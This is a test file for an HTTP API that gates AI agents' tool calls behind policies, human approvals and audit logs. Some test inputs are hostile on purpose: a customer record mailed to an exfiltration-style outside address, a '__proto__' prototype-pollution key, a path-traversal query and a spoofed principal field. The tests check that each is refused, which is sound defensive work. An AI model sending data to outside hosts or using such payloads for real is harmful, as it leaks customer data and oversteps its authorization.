// The HTTP JSON API door, in process (`app.request`), on a copy of the Acme demo with real MCP servers and real API keys.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Hono } from 'hono';
import YAML from 'yaml';
import { z } from 'zod';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openAirlock, type Airlock } from '../../src/airlock.js';
import { AirlockError } from '../../src/errors.js';
import { createAuthenticator } from '../../src/identity/authenticate.js';
import { generateApiKey } from '../../src/identity/api-keys.js';
import { createApiRoutes } from '../../src/server/api.js';
import { RateLimiter } from '../../src/server/limits.js';
import * as Approvals from '../../src/server/api-approval-schemas.js';
import { ErrorResponse } from '../../src/server/api-common-schemas.js';
import { API_ROUTES, API_SCHEMAS } from '../../src/server/api-route-table.js';
import * as Runs from '../../src/server/api-run-schemas.js';
import { apiJsonSchema, OPENAPI_FILE, openApiDocument } from '../../src/server/openapi.js';
import type { AuditRecord } from '../../src/store/store.js';
import type { RunId } from '../../src/types.js';
import { copyAcme, groundTruth } from '../helpers/workspace.js';
import { apiApp } from './fixtures.js';

const ROOT = path.resolve(import.meta.dirname, '../..');

const REFUND = { order_id: '1182', amount_cents: 4000, currency: 'EUR', reason: 'damaged part, ticket T-311' };

describe('HTTP API', () => {
  let ws: ReturnType<typeof copyAcme>;
  let airlock: Airlock;
  let app: Hono;
  const keys = { bot: generateApiKey(), dana: generateApiKey(), sam: generateApiKey(), priya: generateApiKey(), other: generateApiKey() };

  beforeAll(async () => {
    ws = copyAcme();
    // Real API keys (stored as hashes) and a second agent that drives no workflow.
    const file = path.join(ws.dir, 'airlock.yaml');
    const doc = YAML.parse(readFileSync(file, 'utf8')) as { identity: { principals: unknown[]; apiKeys?: unknown[] } };
    doc.identity.principals.push({ id: 'other-bot', kind: 'agent', roles: [] });
    doc.identity.apiKeys = [
      { id: 'bot', principal: 'agent:refund-bot', sha256: keys.bot.sha256 },
      { id: 'dana', principal: 'user:dana', sha256: keys.dana.sha256 },
      { id: 'sam', principal: 'user:sam', sha256: keys.sam.sha256 },
      { id: 'priya', principal: 'user:priya', sha256: keys.priya.sha256 },
      { id: 'other', principal: 'agent:other-bot', sha256: keys.other.sha256 },
    ];
    writeFileSync(file, YAML.stringify(doc));
    airlock = await openAirlock(ws.dir);
    app = apiApp(airlock);
  });

  afterAll(async () => {
    await airlock?.close();
    ws?.cleanup();
  });

  /** One request; `body` is sent as JSON unless it is already a string. */
  async function call(method: string, url: string, key?: { key: string }, body?: unknown) {
    const headers: Record<string, string> = { 'content-type': 'application/json' };
    if (key) headers['authorization'] = `Bearer ${key.key}`;
    const res = await app.request(url, {
      method,
      headers,
      ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
    });
    const json = (await res.json()) as Record<string, unknown>;
    return { status: res.status, headers: res.headers, json };
  }

  const ground = () => groundTruth(ws.acmeDb);
  const audit = (runId: string): Promise<readonly AuditRecord[]> => airlock.store.readAuditForRun(runId);

  describe('authentication', () => {
    it('no header: 401 with a Bearer challenge and a JSON error', async () => {
      const r = await call('POST', '/v1/runs', undefined, {});
      expect(r.status).toBe(401);
      expect(r.headers.get('www-authenticate')).toMatch(/^Bearer /);
      expect(ErrorResponse.parse(r.json).error).toBe('authentication required');
      expect(r.json['hint']).toBeTypeOf('string');
    });

    it('a well-formed key that is not configured: 401 invalid_token, on every route', async () => {
      for (const [method, url] of [['POST', '/v1/actions'], ['GET', '/v1/approvals'], ['GET', '/v1/runs/run_x'], ['GET', '/v1/nowhere']] as const) {
        const r = await call(method, url, generateApiKey(), method === 'POST' ? {} : undefined);
        expect(r.status).toBe(401);
        expect(r.headers.get('www-authenticate')).toMatch(/^Bearer .*invalid_token/);
        expect(r.json['error']).toBe('the API key is not recognised');
      }
    });

    it('another scheme: 401', async () => {
      const res = await app.request('/v1/approvals', { headers: { authorization: `Basic ${Buffer.from('dana:pw').toString('base64')}` } });
      expect(res.status).toBe(401);
      expect(res.headers.get('www-authenticate')).toMatch(/^Bearer /);
    });
  });

  describe("Airlock's own run waiting on a person", () => {
    it('people list and approve it over the API, and the run resumes to verified', async () => {
      const run = await airlock.runner.start('refund-desk', { ticket_id: 'T-311' });
      expect(run.status).toBe('awaiting-approval');

      const asAgent = await call('GET', '/v1/approvals', keys.bot);
      expect(asAgent.status).toBe(403);

      const list = await call('GET', '/v1/approvals?status=pending', keys.dana);
      expect(list.status).toBe(200);
      const approvals = Approvals.ApprovalList.parse(list.json).approvals;
      const mine = approvals.find((a) => a.runId === run.id);
      expect(mine).toMatchObject({ tool: 'payments.refund', status: 'pending', level: 'single', requester: 'agent:refund-bot' });

      const bad = await call('GET', '/v1/approvals?status=maybe', keys.dana);
      expect(bad.status).toBe(422);
      for (const q of ['limit=0', 'limit=1001', 'limit=x', 'before=apr_nosuch', 'before=..%2F']) {
        expect((await call('GET', `/v1/approvals?${q}`, keys.dana)).status, q).toBe(422);
      }
      // A page at a time, newest first: a page of one names where the next begins, and the last names none.
      const one = Approvals.ApprovalList.parse((await call('GET', '/v1/approvals?limit=1', keys.dana)).json);
      expect(one.approvals).toHaveLength(1);
      expect(one.next).toBe(one.approvals[0]?.approvalId);
      const rest = Approvals.ApprovalList.parse((await call('GET', `/v1/approvals?limit=1000&before=${one.next}`, keys.dana)).json);
      expect(rest.next).toBeNull();
      expect([...one.approvals, ...rest.approvals].map((a) => a.approvalId)).toEqual(approvals.map((a) => a.approvalId));

      const voted = await call('POST', `/v1/approvals/${mine!.approvalId}/approve`, keys.dana, { reason: 'matches the ticket' });
      expect(voted.status).toBe(200);
      const v = Approvals.VoteRecorded.parse(voted.json);
      expect(v.decided).toBe(true);
      expect(v.approval.status).toBe('consumed');
      expect(v.run).toMatchObject({ runId: run.id, resumed: true, status: 'verified' });
      expect(ground().refunds.filter((r) => r['order_id'] === '1182')).toHaveLength(1);
    });
  });

  describe('an external agent over the API', () => {
    let runId: RunId;
    let approvalId: string;

    it('opens a run and sees its workflow tools', async () => {
      const r = await call('POST', '/v1/runs', keys.bot, {});
      expect(r.status).toBe(201);
      const opened = Runs.RunOpened.parse(r.json);
      runId = opened.runId as RunId;
      expect(opened).toMatchObject({ workflow: 'refund-desk', tier: 'execute-low' });
      expect(opened.tools.map((t) => t.name)).toContain('payments.refund');
      expect(r.headers.get('location')).toBe(`/v1/runs/${runId}`);
      const started = (await audit(runId)).find((a) => a.type === 'run.started');
      expect(started?.body['door']).toBe('http-api');
      expect(started?.principal).toBe('agent:refund-bot');
    });

    it('a read action executes', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'tickets.get_ticket', arguments: { ticket_id: 'T-311' } });
      expect(r.status).toBe(200);
      const done = Runs.ActionExecuted.parse(r.json);
      expect(done.outcome).toBe('executed');
      expect(done.result).toMatchObject({ id: 'T-311', order_id: '1182' });
      expect(done.actionHash).toMatch(/^[0-9a-f]{64}$/);
      // The order record: the refund's amount is the broken item's price there, not only the customer's words.
      const order = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'orders.get_order', arguments: { order_id: '1182' } });
      expect(Runs.ActionExecuted.parse(order.json).outcome).toBe('executed');
    });

    it('the refund waits for a person: 202 with an approval id and how to follow up', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: REFUND });
      expect(r.status).toBe(202);
      const p = Runs.ActionPending.parse(r.json);
      approvalId = p.approvalId;
      expect(p).toMatchObject({ outcome: 'pending-approval', level: 'single', runId });
      expect(p.next.approval).toBe(`GET /v1/approvals/${approvalId}`);
      expect(p.next.then).toContain(runId);
      expect(r.headers.get('location')).toBe(`/v1/approvals/${approvalId}`);
      expect(ground().refunds.filter((x) => x['order_id'] === '1182')).toHaveLength(1); // only the earlier run's

      // The requesting agent may follow its own approval; another agent may not.
      const seen = await call('GET', `/v1/approvals/${approvalId}`, keys.bot);
      expect(seen.status).toBe(200);
      expect(Approvals.ApprovalView.parse(seen.json).status).toBe('pending');
      expect((await call('GET', `/v1/approvals/${approvalId}`, keys.other)).status).toBe(403);
    });

    it('re-posting before approval is the same pending approval', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: REFUND });
      expect(r.status).toBe(202);
      expect(r.json['approvalId']).toBe(approvalId);
    });

    it('the agent cannot approve its own action: 403, audited', async () => {
      const r = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.bot, {});
      expect(r.status).toBe(403);
      expect(r.json['error']).toMatch(/not a person/);
      const refused = (await audit(runId)).filter((a) => a.type === 'approval.refused');
      expect(refused.some((a) => a.principal === 'agent:refund-bot' && a.body['approvalId'] === approvalId)).toBe(true);
      expect((await airlock.store.getApproval(approvalId as never))?.status).toBe('pending');
    });

    it('a rejection needs a reason (422) and the body cannot name the approver (422)', async () => {
      expect((await call('POST', `/v1/approvals/${approvalId}/reject`, keys.dana, {})).status).toBe(422);
      const r = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.sam, { approver: 'user:dana' });
      expect(r.status).toBe(422);
      expect(r.json['hint']).toMatch(/credential/);
    });

    it('dana approves with her own key; the agent re-posts and it executes once, verified', async () => {
      const v = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.dana, { reason: 'within policy' });
      expect(v.status).toBe(200);
      const voted = Approvals.VoteRecorded.parse(v.json);
      expect(voted).toMatchObject({ decided: true, run: { runId, resumed: false, status: 'running' } });
      expect(voted.approval.status).toBe('approved');
      expect(voted.approval.votes).toEqual([expect.objectContaining({ approver: 'user:dana', decision: 'approve' })]);

      // Voting again on a decided approval: 409; sam, a support lead, may not decide refunds at all (policy): 403.
      expect((await call('POST', `/v1/approvals/${approvalId}/approve`, keys.priya, {})).status).toBe(409);
      const sam = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.sam, {});
      expect(sam.status).toBe(403);
      expect(sam.json['error']).toMatch(/no policy lets `user:sam` approve `payments.refund`/);

      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: REFUND });
      expect(r.status).toBe(200);
      const done = Runs.ActionExecuted.parse(r.json);
      expect(done.approvalId).toBe(approvalId);
      expect(done.verification).toMatchObject({ probe: 'payments.get_refund', status: 'passed' });
      expect(ground().refunds.filter((x) => x['order_id'] === '1182')).toHaveLength(2);
      expect((await airlock.store.getApproval(approvalId as never))?.status).toBe('consumed');
    });

    it('the same action again needs a new approval', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: REFUND });
      expect(r.status).toBe(202);
      expect(r.json['approvalId']).not.toBe(approvalId);
      expect(ground().refunds.filter((x) => x['order_id'] === '1182')).toHaveLength(2);
    });

    it('mail to an outside address: 403 denied with the policy ids, audited', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, {
        runId,
        tool: 'mail.send',
        arguments: { to: 'audit@exfil-partner.example', subject: 'customer record', body: 'Lena Park, lena.park@example.net' },
      });
      expect(r.status).toBe(403);
      const d = Runs.ActionDenied.parse(r.json);
      expect(d.policyIds).toContain('mail-internal-only');
      expect(d.reasons.length).toBeGreaterThan(0);
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'action.not-executed' && a.body['tool'] === 'mail.send')).toBe(true);
      expect(ground().sent_mail).toEqual([]);
    });

    it("arguments that break the tool's schema: 422 invalid, audited", async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: { ...REFUND, amount_cents: 'forty' } });
      expect(r.status).toBe(422);
      const inv = Runs.ActionInvalid.parse(r.json);
      expect(inv.errors.join(' ')).toMatch(/amount_cents/);
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'action.not-executed' && a.body['why'] === 'invalid-arguments')).toBe(true);
    });

    it('an undeclared tool: 403 denied by default', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.wire_transfer', arguments: {} });
      expect(r.status).toBe(403);
      expect(Runs.ActionDenied.parse(r.json).reasons[0]).toMatch(/not declared/);
    });

    it('decision-only: allow, the caller executes, reports ok; audited as authorized and caller-reported', async () => {
      const before = ground().ticket_comments.length;
      const r = await call('POST', '/v1/decisions', keys.bot, { runId, tool: 'tickets.comment', arguments: { ticket_id: 'T-311', body: 'Refund issued.' } });
      expect(r.status).toBe(200);
      const allow = Runs.DecisionAllow.parse(r.json);
      expect(allow).toMatchObject({ decision: 'allow', approvalId: null });
      expect(ground().ticket_comments.length).toBe(before); // Airlock did not execute it

      const o = await call('POST', '/v1/outcomes', keys.bot, { runId, actionHash: allow.actionHash, outcome: 'ok', result: { comment_id: 'TC-9' } });
      expect(o.status).toBe(200);
      expect(Runs.OutcomeRecorded.parse(o.json)).toMatchObject({ recorded: true, actionHash: allow.actionHash });

      const records = await audit(runId);
      expect(records.some((a) => a.type === 'action.authorized' && a.body['actionHash'] === allow.actionHash)).toBe(true);
      expect(
        records.some((a) => a.type === 'action.executed' && a.body['actionHash'] === allow.actionHash && a.body['reportedBy'] === 'caller'),
      ).toBe(true);

      // Reported twice: 409.
      const again = await call('POST', '/v1/outcomes', keys.bot, { runId, actionHash: allow.actionHash, outcome: 'ok' });
      expect(again.status).toBe(409);
    });

    it('decision-only: refunds need approval (202), outside mail is denied (403), bad arguments 422', async () => {
      const p = await call('POST', '/v1/decisions', keys.bot, { runId, tool: 'payments.refund', arguments: { ...REFUND, amount_cents: 1000 } });
      expect(p.status).toBe(202);
      expect(Runs.DecisionPending.parse(p.json).decision).toBe('approval-required');
      const d = await call('POST', '/v1/decisions', keys.bot, { runId, tool: 'mail.send', arguments: { to: 'x@evil.example', subject: 's', body: 'b' } });
      expect(d.status).toBe(403);
      expect(Runs.DecisionRefused.parse(d.json)).toMatchObject({ decision: 'deny', policyIds: expect.arrayContaining(['mail-internal-only']) });
      const i = await call('POST', '/v1/decisions', keys.bot, { runId, tool: 'tickets.comment', arguments: { ticket_id: 'T-311' } });
      expect(i.status).toBe(422);
      expect(Runs.DecisionRefused.parse(i.json).decision).toBe('invalid');
    });

    it('reporting an action that was never authorized: 409, audited', async () => {
      const r = await call('POST', '/v1/outcomes', keys.bot, { runId, actionHash: 'a'.repeat(64), outcome: 'ok' });
      expect(r.status).toBe(409);
      expect(r.json['error']).toMatch(/was not authorized/);
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'request.refused' && a.body['status'] === 409 && a.body['actionHash'] === 'a'.repeat(64))).toBe(true);
      // A malformed hash is a schema error.
      expect((await call('POST', '/v1/outcomes', keys.bot, { runId, actionHash: 'nope', outcome: 'ok' })).status).toBe(422);
    });

    it('a body that claims a principal: 422 naming the field, audited with the authenticated principal', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'tickets.get_ticket', arguments: { ticket_id: 'T-311' }, principal: 'user:dana' });
      expect(r.status).toBe(422);
      const e = ErrorResponse.parse(r.json);
      expect(e.issues).toEqual([expect.objectContaining({ path: '', code: 'unrecognized_keys', message: 'unknown field `principal`' })]);
      expect(e.hint).toMatch(/credential/);
      const records = await audit(runId);
      const refused = records.filter((a) => a.type === 'request.refused' && a.body['status'] === 422);
      expect(refused.some((a) => a.principal === 'agent:refund-bot' && a.body['route'] === 'POST /v1/actions')).toBe(true);
    });

    it('a `__proto__` key in the arguments is refused (422), not silently dropped, and nothing is proposed', async () => {
      const before = ground();
      const body = `{"runId":"${runId}","tool":"payments.refund","arguments":{"order_id":"1182","amount_cents":4000,"currency":"EUR","reason":"x","__proto__":{"admin":true}}}`;
      const r = await call('POST', '/v1/actions', keys.bot, body);
      expect(r.status).toBe(422);
      expect(ErrorResponse.parse(r.json).issues).toEqual([expect.objectContaining({ path: 'arguments.__proto__', code: 'forbidden_key' })]);
      expect(ground()).toEqual(before);
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'request.refused' && a.body['status'] === 422 && JSON.stringify(a.body).includes('forbidden_key'))).toBe(true);
    });

    it('zod issues list each path', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId: 'run x', tool: '', arguments: [] });
      expect(r.status).toBe(422);
      const paths = ErrorResponse.parse(r.json).issues?.map((i) => i.path);
      expect(paths).toEqual(expect.arrayContaining(['runId', 'tool', 'arguments']));
    });

    it('a body that is not JSON: 400 saying where', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, '{"runId": "x",\n  tool: 1}');
      expect(r.status).toBe(400);
      const e = ErrorResponse.parse(r.json);
      expect(e.error).toMatch(/^the request body is not valid JSON/);
      expect(e.where).toEqual({ position: 17, line: 2, column: 3 });
    });

    it("another agent's run: 403, audited in that run", async () => {
      const r = await call('POST', '/v1/actions', keys.other, { runId, tool: 'tickets.get_ticket', arguments: { ticket_id: 'T-311' } });
      expect(r.status).toBe(403);
      expect(r.json['error']).toMatch(/is not driven by `agent:other-bot`/);
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'request.refused' && a.principal === 'agent:other-bot' && a.body['status'] === 403)).toBe(true);
      expect((await call('GET', `/v1/runs/${runId}`, keys.other)).status).toBe(403);
      expect((await call('POST', `/v1/runs/${runId}/close`, keys.other)).status).toBe(403);
      // A person is not an agent: no runs to open.
      expect((await call('POST', '/v1/runs', keys.dana, {})).status).toBe(403);
    });

    it('a run that does not exist: 404', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { runId: 'run_nope', tool: 'tickets.get_ticket', arguments: { ticket_id: 'T-311' } });
      expect(r.status).toBe(404);
      expect((await call('GET', '/v1/runs/run_nope', keys.dana)).status).toBe(404);
      expect((await call('GET', '/v1/approvals/apr_nope', keys.dana)).status).toBe(404);
    });

    it('GET /runs/{id}: its agent and people see status, steps, verifications and history', async () => {
      for (const key of [keys.bot, keys.dana]) {
        const r = await call('GET', `/v1/runs/${runId}`, key);
        expect(r.status).toBe(200);
        const run = Runs.RunView.parse(r.json);
        expect(run).toMatchObject({ runId, workflow: 'refund-desk', status: 'running', door: 'http-api', agent: 'agent:refund-bot' });
        expect(run.steps).toBe(run.history.length);
        expect(run.history[0]).toMatchObject({ tool: 'tickets.get_ticket', status: 'ok' });
        expect(run.verifications).toEqual([expect.objectContaining({ tool: 'payments.refund', status: 'passed' })]);
        expect(run.pendingApprovals.length).toBe(2); // the second refund, and the decision-only refund
      }
    });

    it('an action without runId opens a run first', async () => {
      const r = await call('POST', '/v1/actions', keys.bot, { workflow: 'refund-desk', tool: 'orders.get_order', arguments: { order_id: '1182' } });
      expect(r.status).toBe(200);
      expect(r.json['runId']).not.toBe(runId);
      expect((await call('POST', '/v1/actions', keys.bot, { workflow: 'nope', tool: 'orders.get_order', arguments: { order_id: '1' } })).status).toBe(404);
      const mismatch = await call('POST', '/v1/actions', keys.bot, { runId, workflow: 'other-flow', tool: 'orders.get_order', arguments: { order_id: '1' } });
      expect(mismatch.status).toBe(422);
    });

    it('closing ends the run verified; later actions are 409', async () => {
      const r = await call('POST', `/v1/runs/${runId}/close`, keys.bot);
      expect(r.status).toBe(200);
      expect(Runs.RunView.parse(r.json).status).toBe('verified');
      const late = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'tickets.get_ticket', arguments: { ticket_id: 'T-311' } });
      expect(late.status).toBe(409);
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'run.finished' && a.body['status'] === 'verified')).toBe(true);
      expect(records.some((a) => a.type === 'request.refused' && a.body['status'] === 409)).toBe(true);
    });
  });

  describe('votes', () => {
    let runId: string;

    beforeAll(async () => {
      const r = await call('POST', '/v1/runs', keys.bot, { workflow: 'refund-desk' });
      runId = r.json['runId'] as string;
    });

    it('step-up needs two different people; one person cannot vote twice', async () => {
      const p = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: { ...REFUND, amount_cents: 6000 } });
      expect(p.status).toBe(202);
      const { approvalId, level } = Runs.ActionPending.parse(p.json);
      expect(level).toBe('step-up');
      const unjustified = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.priya, {});
      expect(unjustified.status).toBe(422);
      expect(unjustified.json['error']).toMatch(/justification/);
      const first = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.priya, { reason: 'order total checked' });
      expect(first.status).toBe(200);
      expect(Approvals.VoteRecorded.parse(first.json)).toMatchObject({ decided: false, next: 'needs 1 more approval from a different eligible person' });
      const twice = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.priya, { reason: 'again' });
      expect(twice.status).toBe(403);
      expect(twice.json['error']).toMatch(/already voted/);
      const second = await call('POST', `/v1/approvals/${approvalId}/approve`, keys.dana, { reason: 'agreed' });
      expect(Approvals.VoteRecorded.parse(second.json)).toMatchObject({ decided: true, approval: { status: 'approved', needed: 2 } });
    });

    it('a rejection goes back to the agent when it re-posts', async () => {
      const args = { ...REFUND, amount_cents: 1500 };
      const p = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: args });
      const { approvalId } = Runs.ActionPending.parse(p.json);
      const rejected = await call('POST', `/v1/approvals/${approvalId}/reject`, keys.dana, { reason: 'the customer was already refunded' });
      expect(rejected.status).toBe(200);
      expect(Approvals.VoteRecorded.parse(rejected.json)).toMatchObject({ decided: true, approval: { status: 'rejected' } });
      const again = await call('POST', '/v1/actions', keys.bot, { runId, tool: 'payments.refund', arguments: args });
      expect(again.status).toBe(403);
      expect(Runs.ActionDenied.parse(again.json).reasons[0]).toMatch(/already refunded/);
    });

    it('tool calls over the per-principal rate: 429 with Retry-After, audited', async () => {
      const limited = createApiRoutes(airlock, (h) => createAuthenticator(airlock.workspace).authenticate(h), { rateLimiter: new RateLimiter(1) });
      const read = () =>
        limited.request('/actions', {
          method: 'POST',
          headers: { authorization: `Bearer ${keys.bot.key}` },
          body: JSON.stringify({ runId, tool: 'orders.get_order', arguments: { order_id: '1182' } }),
        });
      expect((await read()).status).toBe(200);
      const over = await read();
      expect(over.status).toBe(429);
      expect(over.headers.get('retry-after')).toBe('60');
      const records = await audit(runId);
      expect(records.some((a) => a.type === 'request.refused' && a.body['why'] === 'rate-limit')).toBe(true);
    });

    it('a body over `server.limits.maxRequestBytes`: 413', async () => {
      const big = JSON.stringify({ runId, tool: 'tickets.comment', arguments: { ticket_id: 'T-311', body: 'x'.repeat(1_100_000) } });
      const r = await call('POST', '/v1/actions', keys.bot, big);
      expect(r.status).toBe(413);
    });
  });

  describe('with a fake authenticator', () => {
    it('a valid credential for a principal that may not act: 403 with an insufficient_scope challenge', async () => {
      const fake = new Hono().route(
        '/v1',
        createApiRoutes(airlock, async () => ({ ok: false, status: 403, reason: 'forbidden', error: 'token actor `dana` is a `user`, not an agent' })),
      );
      const res = await fake.request('/v1/runs', { method: 'POST', body: '{}', headers: { authorization: 'Bearer x' } });
      expect(res.status).toBe(403);
      expect(res.headers.get('www-authenticate')).toMatch(/insufficient_scope/);
      expect(await res.json()).toEqual({ error: 'token actor `dana` is a `user`, not an agent' });
    });

    it('an identity provider that cannot be reached: 503, retry', async () => {
      const down = createApiRoutes(airlock, async () => {
        throw new AirlockError('connector', 'the JWKS could not be fetched', { retryable: true });
      });
      const res = await down.request('/approvals', { headers: { authorization: 'Bearer x' } });
      expect(res.status).toBe(503);
      expect(res.headers.get('retry-after')).toBe('1');
    });
  });

  describe('routes', () => {
    it('unknown routes: 404 JSON', async () => {
      const r = await call('GET', '/v1/nowhere', keys.dana);
      expect(r.status).toBe(404);
      expect(r.json['error']).toBe('no route `GET /v1/nowhere`');
      expect((await call('DELETE', '/v1/runs', keys.dana)).status).toBe(404);
    });

    it('every documented route is served', async () => {
      for (const route of API_ROUTES) {
        const url = `/v1${route.path.replace(/\{[A-Za-z]+\}/g, 'x_missing')}`;
        const r = await call(route.method.toUpperCase(), url, keys.dana, route.method === 'post' ? { reason: 'r' } : undefined);
        expect(String(r.json['error'] ?? ''), `${route.method} ${route.path}`).not.toMatch(/^no route/);
        const documented = [...Object.keys(route.responses).map(Number), 401, 403, ...(route.body ? [400, 413, 422] : [])];
        expect(documented, `${route.method} ${route.path}`).toContain(r.status);
      }
    });
  });
});

describe('OpenAPI document', () => {
  const doc = openApiDocument() as {
    openapi: string;
    paths: Record<string, Record<string, { requestBody?: { content: Record<string, { schema: { $ref: string } }> }; responses: Record<string, unknown> }>>;
    components: { schemas: Record<string, unknown>; securitySchemes: Record<string, { type: string; scheme: string }> };
    security: unknown[];
  };

  it('is OpenAPI 3.1 with bearer security and every route', () => {
    expect(doc.openapi).toBe('3.1.0');
    expect(doc.components.securitySchemes['bearer']).toMatchObject({ type: 'http', scheme: 'bearer' });
    expect(doc.security).toEqual([{ bearer: [] }]);
    for (const route of API_ROUTES) {
      const op = doc.paths[route.path]?.[route.method];
      expect(op, `${route.method} ${route.path}`).toBeDefined();
      expect(Object.keys(op!.responses)).toEqual(expect.arrayContaining([...Object.keys(route.responses), '401', '403']));
    }
    expect(Object.keys(doc.paths).sort()).toEqual([...new Set(API_ROUTES.map((r) => r.path))].sort());
  });

  it("each request body is exactly the zod schema's JSON Schema", () => {
    for (const route of API_ROUTES) {
      if (!route.body) continue;
      const op = doc.paths[route.path]![route.method]!;
      const refd = op.requestBody!.content['application/json']!.schema.$ref;
      expect(refd).toBe(`#/components/schemas/${route.body}`);
      const { $schema: _, ...expected } = z.toJSONSchema(API_SCHEMAS[route.body], { io: 'input' }) as Record<string, unknown>;
      expect(doc.components.schemas[route.body]).toEqual(expected);
      expect(expected['additionalProperties']).toBe(false);
    }
    expect(doc.components.schemas['ActionRequest']).toEqual(apiJsonSchema('ActionRequest'));
  });

  it('every $ref resolves', () => {
    const refs = JSON.stringify(doc).match(/"\$ref":"[^"]+"/g) ?? [];
    for (const r of refs) {
      const target = r.slice(8, -1).replace(/^#\//, '').split('/');
      let node: unknown = doc;
      for (const seg of target) node = (node as Record<string, unknown>)[seg];
      expect(node, r).toBeDefined();
    }
  });

  it(`the shipped ${OPENAPI_FILE} is the generated one (run \`npm run gen\`)`, () => {
    const shipped = JSON.parse(readFileSync(path.join(ROOT, OPENAPI_FILE), 'utf8')) as unknown;
    expect(shipped).toEqual(JSON.parse(JSON.stringify(doc)));
  });
});
